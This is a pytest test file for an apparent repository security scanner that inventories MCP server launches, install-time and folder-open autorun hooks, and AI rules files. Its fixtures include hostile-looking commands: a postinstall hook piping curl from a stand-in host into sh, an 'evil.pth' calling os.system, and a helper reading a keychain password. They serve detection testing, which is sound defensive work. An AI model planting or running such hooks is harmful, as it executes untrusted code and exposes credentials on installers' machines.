from __future__ import annotations

import json

import pytest

from checks.model import CapabilityId, Launch, SurfaceRole, Target, Trigger
from reviewer.model import PublishedPackage
from tests.reviewer.inventory.worlds import able, gates, inventory, texts


def launched(target: Target) -> list[tuple[str, ...]]:
    return [launch.command for launch in target.launches]


@pytest.mark.parametrize(
    ("path", "content"),
    [
        (".mcp.json", {"mcpServers": {"n": {"command": "npx", "args": ["notes"]}}}),
        ("claude_desktop_config.json", {"mcpServers": {"n": {"command": "npx", "args": ["notes"]}}, "other": 1}),
        (".vscode/mcp.json", {"servers": {"n": {"type": "stdio", "command": "npx", "args": ["notes"]}}}),
        (".vscode/settings.json", {"mcp": {"servers": {"n": {"command": "npx", "args": ["notes"]}}}}),
        (".zed/settings.json", {"context_servers": {"n": {"command": {"path": "npx", "args": ["notes"]}}}}),
        ("opencode.json", {"mcpServers": {"n": {"command": ["npx", "notes"]}}}),
    ],
)
def test_every_configuration_of_servers_is_found(path: str, content: object) -> None:
    assert launched(inventory({path: json.dumps(content)})) == [("npx", "notes")]


def test_servers_in_toml_are_found() -> None:
    assert launched(inventory({".codex/config.toml": '[mcp_servers.n]\ncommand = "npx"\nargs = ["notes"]\n'})) == [("npx", "notes")]


def test_values_of_variables_and_headers_are_not_kept() -> None:
    servers = {
        "n": {"command": "npx", "env": {"TOKEN": "s3cret"}},
        "m": {"url": "https://m.example", "headers": {"Authorization": "Bearer s3cret"}},
    }
    target = inventory({".mcp.json": json.dumps({"mcpServers": servers})})
    assert [launch.env for launch in target.launches] == [("TOKEN",), ("header:Authorization",)]
    assert "s3cret" not in repr((target.launches, target.capabilities, target.declarations))


def test_a_helper_for_headers_runs_by_itself() -> None:
    target = inventory(
        {".mcp.json": json.dumps({"mcpServers": {"m": {"url": "https://m.example", "headersHelper": "security find-generic-password -w"}}})}
    )
    assert [run.event for run in target.autoruns] == ["mcp:headersHelper"]
    assert able(target, CapabilityId.SECRET_READ)


def test_a_configuration_with_a_contradiction_is_a_gate() -> None:
    assert gates(inventory({".mcp.json": '{"mcpServers": {"a": {"command": "safe", "command": "evil"}}}'})) == {".mcp.json"}


README = """# Notes

```json
{"mcpServers": {"notes": {"command": "npx", "args": ["-y", "notes-mcp"], "env": {"KEY": "x"}}}}
```

```jsonc
"mcpServers": { // part of a file
  "notes": {"command": "uvx", "args": ["notes-mcp"],},
}
```

```bash
npm run build
claude mcp add notes -- npx -y notes-mcp@1.0.0
docker run -i --rm notes
```
"""


def test_documentation_shows_launches_and_ordinary_commands_are_none() -> None:
    target = inventory({"README.md": README})
    assert launched(target) == [
        ("npx", "-y", "notes-mcp"),
        ("uvx", "notes-mcp"),
        ("npx", "-y", "notes-mcp@1.0.0"),
        ("docker", "run", "-i", "--rm", "notes"),
    ]
    assert {launch.context for launch in target.launches} == {"documentation"}
    assert [launch.at.line for launch in target.launches] == [4, 9, 15, 16]
    assert isinstance(target.launches[0], Launch)


def test_a_readme_is_no_surface_of_a_server() -> None:
    assert not texts(inventory({"README.md": README}), SurfaceRole.REFERENCE)


def ran(target: Target) -> list[tuple[str, str]]:
    return [(run.event, run.command) for run in target.autoruns]


def test_lifecycle_scripts_of_npm_run_at_installation() -> None:
    scripts = {"postinstall": "curl https://x.example | sh", "prepare": "npm run build", "test": "jest"}
    target = inventory({"package.json": json.dumps({"name": "x", "scripts": scripts})})
    assert ran(target) == [("npm:postinstall", "curl https://x.example | sh"), ("npm:prepare", "npm run build")]
    assert {c.trigger for c in target.capabilities} == {Trigger.INSTALL}
    assert able(target, CapabilityId.CODE_EVAL)


def test_a_published_package_does_not_run_what_only_a_checkout_runs() -> None:
    package = PublishedPackage(ecosystem="npm", name="x", version="1.0.0", filename="x-1.0.0.tgz", integrity="sha512-x")
    target = inventory({"package.json": '{"name": "x", "scripts": {"prepare": "npm run build", "install": "node i.js"}}'}, package=package)
    assert ran(target) == [("npm:install", "node i.js")]


def test_what_an_installer_starts_has_its_trigger() -> None:
    files = {"package.json": '{"scripts": {"postinstall": "sh setup/run.sh"}}', "setup/run.sh": "curl https://x.example\n"}
    assert {c.trigger for c in able(inventory(files), CapabilityId.NET_OUT)} == {Trigger.MODEL, Trigger.INSTALL}


BUILD = '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["."]\n[tool.hatch.build.hooks.custom]\n'
TASKS = '{"tasks": [{"command": "sh", "args": ["x.sh"], "runOptions": {"runOn": "folderOpen"}}, {"command": "make"}]}'


def test_files_that_run_because_they_are_there() -> None:
    target = inventory(
        {
            "setup.py": "from setuptools import setup\nsetup(cmdclass={})\n",
            "pyproject.toml": BUILD,
            "evil.pth": "./src\nimport os; os.system('x')\n",
            "binding.gyp": "{}",
            "package.json": "{}",
            "sitecustomize.py": "x = 1\n",
            ".pnpmfile.cjs": "",
            ".vscode/tasks.json": TASKS,
            ".devcontainer/devcontainer.json": '{"initializeCommand": ["sh", "y.sh"], "postCreateCommand": "inside"}',
        }
    )
    assert {event for event, _ in ran(target)} == {
        "setup.py",
        "setup.py:cmdclass",
        "pyproject:build-backend",
        "hatch:build.hooks.custom",
        "pth",
        "npm:install",
        "python:sitecustomize",
        "pnpm:pnpmfile",
        "vscode:folderOpen",
        "devcontainer:initializeCommand",
    }


@pytest.mark.parametrize(
    "path",
    [
        "CLAUDE.md",
        "sub/AGENTS.md",
        ".cursorrules",
        ".cursor/rules/style.mdc",
        "GEMINI.md",
        ".github/copilot-instructions.md",
        ".github/instructions/a.instructions.md",
    ],
)
def test_rules_files_are_surfaces(path: str) -> None:
    assert texts(inventory({path: "Always do it so."}), SurfaceRole.RULES) == ["Always do it so."]


def test_a_rules_file_that_is_a_link_says_what_its_target_says() -> None:
    target = inventory({"docs/notes.txt": "Obey."}, links={"CLAUDE.md": "docs/notes.txt"})
    assert texts(target, SurfaceRole.RULES) == ["Obey."]


def test_lists_that_nobody_writes_are_read_up_to_a_bound_and_told() -> None:
    many = {str(number): {"command": f"x{number}"} for number in range(400)}
    hooks = {"Stop": [{"command": f"echo {number}"} for number in range(600)]}
    target = inventory({".mcp.json": json.dumps({"mcpServers": many}), ".claude/settings.json": json.dumps({"hooks": hooks})})
    assert gates(target) == {".mcp.json", ".claude/settings.json"}
    assert (len(target.launches), len(target.autoruns)) == (300, 500)
